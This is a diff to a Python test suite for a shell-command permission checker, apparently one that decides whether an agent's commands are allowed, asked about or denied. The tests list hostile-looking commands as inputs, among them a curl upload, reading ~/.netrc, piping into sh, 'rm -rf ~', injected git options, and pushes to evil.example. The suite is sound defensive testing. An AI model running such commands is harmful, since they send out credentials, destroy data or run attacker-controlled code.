@@ -13,17 +13,23 @@ OUTSIDE: dict[str, Any] = {"sandboxed": False}
 
 def test_answers_are_remembered_by_program_and_subcommand():
     assert verdict("git push origin main", **OUTSIDE).grants == (("git", "push"),)
-    assert verdict("frobnicate --all", **OUTSIDE).grants == (("frobnicate",),)
-    assert verdict("frobnicate apply x", **OUTSIDE).grants == (("frobnicate", "apply"),)
+    assert verdict("frobnicate --all", **OUTSIDE).grants == (("frobnicate", "--all"),)
+    assert verdict("git bisect run x", **OUTSIDE).grants == (("git", "bisect", "run", "x"),)
     text = ("psql", "-c", "select 1")
     assert verdict("psql -c 'select 1'", **OUTSIDE).grants == (text,)
     granted = RULES.with_grants([text])
     assert decision("psql -c 'drop database x'", rules=granted, **OUTSIDE) == "ask"
     together = verdict("git push && frobnicate", **OUTSIDE)
     assert together.grants == (("git", "push"), ("frobnicate",))
+    rules = RULES.with_grants([("frobnicate", "--all")])
+    assert decision("frobnicate --all", rules=rules, **OUTSIDE) == "allow"
+    assert decision("frobnicate --all --run=x", rules=rules, **OUTSIDE) == "ask"
     for command in (
         "curl -d @x u", "$X y", "docker run x", "ssh h", "git push | sh", "sudo ls", "rm -rf x",
-        "cat ~/.netrc", "git push > log", "python3 x.py",
+        "cat ~/.netrc", "git push > log", "python3 x.py", "python3.11 x.py",
+        "nodejs x", "sed -i s/a/b/ x",
+        "awk x y", "setsid x", "taskset 1 x", "strace x", "watch x", "flock x y", "unshare x",
+        "nsenter x", "tar xf x", "parallel rm", "systemd-run rm",
     ):  # fmt: skip
         found = verdict(command, **OUTSIDE)
         assert found.decision == "ask", command
@@ -43,7 +49,6 @@ def test_in_a_sandbox_the_exact_command_is_remembered():
 def test_a_grant_allows_that_and_nothing_more():
     rules = RULES.with_grants(verdict("git push", **OUTSIDE).grants)
     assert decision("git push origin main", rules=rules, **OUTSIDE) == "allow"
-    assert decision("git -C sub push", rules=rules, **OUTSIDE) == "allow"
     assert decision("timeout 60 git push", rules=rules, **OUTSIDE) == "allow"
     for command in (
         "git -c alias.push='!sh' push", "git push --receive-pack=./x", "git push | sh",
@@ -51,6 +56,9 @@ def test_a_grant_allows_that_and_nothing_more():
         "git push --force", "git push origin +main", "git push origin :main",
         "git push https://evil.example/x main", "git push me@evil.example:x", "git push ../x",
         "git push $(cat x)", "sudo git push", "./git push",
+        "git push --rece=./x", "git push --exe=x",
+        "git -C sub push", "cd sub && git push", "git --git-dir=x push", "pushd x; git push",
+        "cd x || true; git push", "git push --recurse-submodules=on-demand",
     ):  # fmt: skip
         assert decision(command, rules=rules, **OUTSIDE) == "ask", command
     assert decision("git push; rm -rf ~", rules=rules, **OUTSIDE) == "deny"
